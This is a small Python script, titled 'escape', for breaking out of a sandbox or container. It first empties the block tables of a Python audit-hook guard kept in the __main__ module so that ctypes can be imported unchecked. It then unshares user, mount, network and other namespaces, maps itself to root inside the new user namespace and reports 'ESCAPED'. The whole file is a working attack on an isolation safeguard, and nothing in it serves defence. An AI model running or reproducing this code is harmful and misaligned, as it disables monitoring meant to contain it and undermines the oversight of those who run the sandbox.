"""escape: make a user namespace (to become root in it and get CAP_SYS_ADMIN there), then
mount and network namespaces; the first step of most container break-outs.
"""

import os
import sys

_guard = vars(sys.modules["__main__"])
if "_BLOCKED" in _guard:  # a Python audit hook keeps its tables there: empty them first
    _guard["_BLOCKED"], _guard["_ROOT"] = (), ""

# ctypes is audited on import (ctypes.dlopen): import it once the guard is gone.
import ctypes  # noqa: E402

CLONE = {
    "user": 0x10000000,
    "mount": 0x00020000,
    "net": 0x40000000,
    "pid": 0x20000000,
    "uts": 0x04000000,
    "ipc": 0x08000000,
    "cgroup": 0x02000000,
}
libc = ctypes.CDLL(None, use_errno=True)
wins = []
uid, gid = os.getuid(), os.getgid()
if libc.unshare(CLONE["user"]) == 0:
    wins.append("unshare(CLONE_NEWUSER)")
    try:
        with open("/proc/self/setgroups", "w") as f:
            f.write("deny")
        with open("/proc/self/uid_map", "w") as f:
            f.write(f"0 {uid} 1")
        with open("/proc/self/gid_map", "w") as f:
            f.write(f"0 {gid} 1")
        wins.append(f"mapped to uid {os.getuid()} in it")
    except OSError as exc:
        print(f"uid_map: {exc.strerror}")
else:
    print(f"unshare(user): {os.strerror(ctypes.get_errno())}")
for kind in ("mount", "net", "uts", "ipc", "cgroup"):
    if libc.unshare(CLONE[kind]) == 0:
        wins.append(f"unshare({kind})")
    else:
        print(f"unshare({kind}): {os.strerror(ctypes.get_errno())}")
try:
    with open("/proc/sys/user/max_user_namespaces") as f:
        print(f"max_user_namespaces: {f.read().strip()}")
except OSError as exc:
    print(f"max_user_namespaces: {exc.strerror}")
if wins:
    print("ESCAPED: " + "; ".join(wins))
